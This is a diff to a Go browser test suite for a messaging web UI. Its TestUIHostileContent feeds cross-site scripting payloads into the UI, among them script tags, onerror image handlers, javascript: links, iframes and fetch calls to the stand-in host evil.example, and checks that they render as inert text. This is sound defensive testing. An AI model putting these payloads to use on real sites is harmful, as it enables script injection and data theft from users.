@@ -244,6 +244,32 @@ func downloaded(t *testing.T, dir, name string) []byte {
 	}
 }
 
+// onlyDownload waits for the one file the browser saves into dir (whatever name it cleaned the file's
+// name into) and returns its name.
+func onlyDownload(t *testing.T, dir string) string {
+	t.Helper()
+	for deadline := time.Now().Add(15 * time.Second); time.Now().Before(deadline); time.Sleep(50 * time.Millisecond) {
+		entries, err := os.ReadDir(dir)
+		if err != nil {
+			t.Fatal(err)
+		}
+		var done []string
+		for _, en := range entries {
+			if !strings.HasSuffix(en.Name(), ".crdownload") {
+				done = append(done, en.Name())
+			}
+		}
+		if len(done) > 1 {
+			t.Fatalf("downloads: %v, want one file", done)
+		}
+		if len(done) == 1 && len(entries) == 1 {
+			return done[0]
+		}
+	}
+	t.Fatalf("no download in %s", dir)
+	return ""
+}
+
 // screenshot captures the viewport (sel == "") or one element; with -update-screenshots it is written to
 // docs/screenshots/name.png.
 func screenshot(t *testing.T, b *browsertest.Browser, name, sel string) {
@@ -439,7 +465,7 @@ func TestUIConsole(t *testing.T) {
 	// Redeliver: the receiver gets the event again.
 	before := rcv.events()
 	clickButton(t, b, "#webhooks", "Redeliver")
-	waitText(t, b, "again.")
+	waitText(t, b, "was sent again")
 	deadline := time.Now().Add(10 * time.Second)
 	for rcv.events() <= before {
 		if time.Now().After(deadline) {
@@ -533,4 +559,101 @@ func (e *uiEnv) failedDelivery(t *testing.T, r *receiver) {
 		}
 		time.Sleep(50 * time.Millisecond)
 	}
+}
+
+// TestUIHostileContent: a message and memory items whose subject, body, metadata, file name and paths hold
+// script tags, event-handler images, javascript: links and Markdown links run nothing (no dialog, no
+// request to any host but the server: internal/browsertest fails the test on either) and show as the very
+// text that was sent.
+func TestUIHostileContent(t *testing.T) {
+	t.Parallel()
+	e := newUIEnv(t)
+	b := browsertest.New(t, browsertest.Options{})
+	dl := downloads(t, b)
+	subject := `<script>alert("subject")</script><img src=x onerror="fetch('http://evil.example/s')">`
+	body := "<img src=x onerror=alert(1)>\n[click me](javascript:alert(2))\n<a href=\"javascript:alert(3)\">link</a>\n" +
+		"<script>fetch(\"http://evil.example/b\")</script>\n[docs](http://evil.example/md) ![pic](http://evil.example/p.png)\n<iframe src=\"javascript:alert(4)\"></iframe>"
+	metadata := map[string]any{"<script>alert(5)</script>": "<img src=x onerror=alert(6)>", "link": "javascript:alert(7)", "md": "[x](http://evil.example/m)"}
+	filename := `<img src=x onerror=alert(8)>.html`
+	page := []byte(`<script>alert(9)</script><img src=x onerror=alert(10)>`)
+	blob := e.upload(t, filename, "text/html", page)
+	sent := tool(t, e.mcp, "waypost_send", map[string]any{"request_id": "evil-1", "recipient_ids": []string{e.person.actor},
+		"subject": subject, "body": map[string]any{"text": body}, "metadata": metadata, "attachment_ids": []string{blob}})
+	msgID := sent["message_id"].(string)
+	paths := []string{`<script>alert(11)<` + "/" + `script>.md`, `<img src=x onerror=alert(12)>.md`, `[x](javascript:alert(13)).md`}
+	var items []any
+	for i, p := range paths {
+		id := e.upload(t, fmt.Sprintf("m%d.md", i), "text/markdown", []byte(p))
+		items = append(items, map[string]any{"item_id": fmt.Sprintf("i%d", i), "blob_id": id, "path": p,
+			"metadata": map[string]any{"note": "<img src=x onerror=alert(14)>"}})
+	}
+	tool(t, e.mcp, "waypost_memory_publish", map[string]any{"request_id": "evil-mem-1", "collection_id": e.coll, "expected_revision": 0, "mode": "snapshot", "items": items})
+	tool(t, e.mcp, "waypost_memory_publish", map[string]any{"request_id": "evil-mem-2", "collection_id": e.coll, "expected_revision": 1, "mode": "delta", "delete_ids": []string{"i2"}})
+
+	inert := `document.querySelectorAll("main script, main img, main iframe, main object, main embed, main svg").length === 0 && ` +
+		`[...document.querySelectorAll("a[href]")].every((a) => a.getAttribute("href").startsWith("#/"))`
+	e.signIn(t, b)
+	waitJS(t, b, "the subject as text in the inbox", `[...document.querySelectorAll("li.item .subject")].some((s) => s.textContent === `+js(subject)+`)`)
+	waitJS(t, b, "nothing live in the inbox", inert)
+	do(t, b, chromedp.Click(`a[href="#/message/`+msgID+`"]`, chromedp.ByQuery))
+	waitJS(t, b, "the subject as text", `document.querySelector("h1.subject")?.textContent === `+js(subject))
+	waitJS(t, b, "the body as text", `document.querySelector("pre.body").textContent === `+js(body))
+	mj, _ := json.Marshal(metadata)
+	waitJS(t, b, "the metadata as text", `JSON.stringify(JSON.parse(document.querySelector("pre.metadata").textContent)) === JSON.stringify(`+string(mj)+`)`)
+	waitJS(t, b, "the file name as text", `document.querySelector(".filename")?.textContent === `+js(filename))
+	waitJS(t, b, "nothing live in the message", inert)
+	clickButton(t, b, "ul.attachments", "Download")
+	waitText(t, b, "Saved (")
+	if got := downloaded(t, dl, onlyDownload(t, dl)); !bytes.Equal(got, page) {
+		t.Fatalf("the downloaded page differs: %q", got)
+	}
+
+	do(t, b, chromedp.Navigate(e.s.base+"/ui/#/memory/"+e.coll))
+	for _, p := range paths {
+		waitJS(t, b, "the path "+p+" as text", `[...document.querySelectorAll(".path")].some((s) => s.textContent === `+js(p)+`)`)
+	}
+	waitText(t, b, "tombstone (deleted in 2)")
+	waitJS(t, b, "nothing live in the collection", inert)
+	time.Sleep(500 * time.Millisecond) // time for an injected handler to fire, were there one
+	if d := b.Dialogs(); len(d) > 0 {
+		t.Fatalf("dialogs opened: %v", d)
+	}
+	for _, u := range b.Requests() {
+		if !strings.HasPrefix(u, e.s.base+"/") && !strings.HasPrefix(u, "blob:"+e.s.base+"/") {
+			t.Errorf("the page requested %s", u)
+		}
+	}
+}
+
+// TestUIPhone: at a phone's width (390 CSS pixels, touch) the inbox, a message and the console fit the
+// screen without sideways scrolling; the screenshots in docs/screenshots come from here and TestUIConsole.
+func TestUIPhone(t *testing.T) {
+	t.Parallel()
+	rcv := goneReceiver(t)
+	e := newUIEnv(t, "--allow-loopback-webhooks")
+	e.failedDelivery(t, rcv)
+	long := tool(t, e.mcp, "waypost_send", map[string]any{"request_id": "phone-1", "recipient_ids": []string{e.person.actor},
+		"subject":  "Deployment report for the staging cluster, with a rather long subject line",
+		"body":     map[string]any{"text": "All 14 services are up. A_very_long_unbroken_identifier_that_must_wrap_rather_than_push_the_page_sideways_0123456789."},
+		"metadata": map[string]any{"run": "https://ci.example/runs/1234567890/very/long/path/that/should/wrap"}})
+	b := browsertest.New(t, browsertest.Options{Width: 390, Height: 844, Mobile: true})
+	fits := `document.documentElement.scrollWidth <= window.innerWidth`
+	e.signIn(t, b)
+	waitText(t, b, "Deployment report")
+	waitJS(t, b, "the inbox fits the phone", fits)
+	screenshot(t, b, "inbox-phone", "")
+	do(t, b, chromedp.Click(`a[href="#/message/`+long["message_id"].(string)+`"]`, chromedp.ByQuery))
+	waitText(t, b, "All 14 services are up")
+	waitJS(t, b, "the message fits the phone", fits)
+	screenshot(t, b, "message-phone", "")
+
+	do(t, b, chromedp.Navigate(e.s.base+"/ui/#/console"))
+	setValue(t, b, `input[name=secret]`, adminSecret)
+	clickButton(t, b, "form", "Continue")
+	do(t, b, chromedp.Navigate(e.s.base+"/ui/#/console/"+e.adm.space.SpaceID))
+	waitText(t, b, "Stats by stage")
+	waitJS(t, b, "the failed delivery", `document.querySelector("#webhooks").textContent.includes("410")`)
+	waitJS(t, b, "the console fits the phone", fits)
+	screenshot(t, b, "console-stats-phone", "#stats")
+	screenshot(t, b, "console-deliveries-phone", "#webhooks")
 }
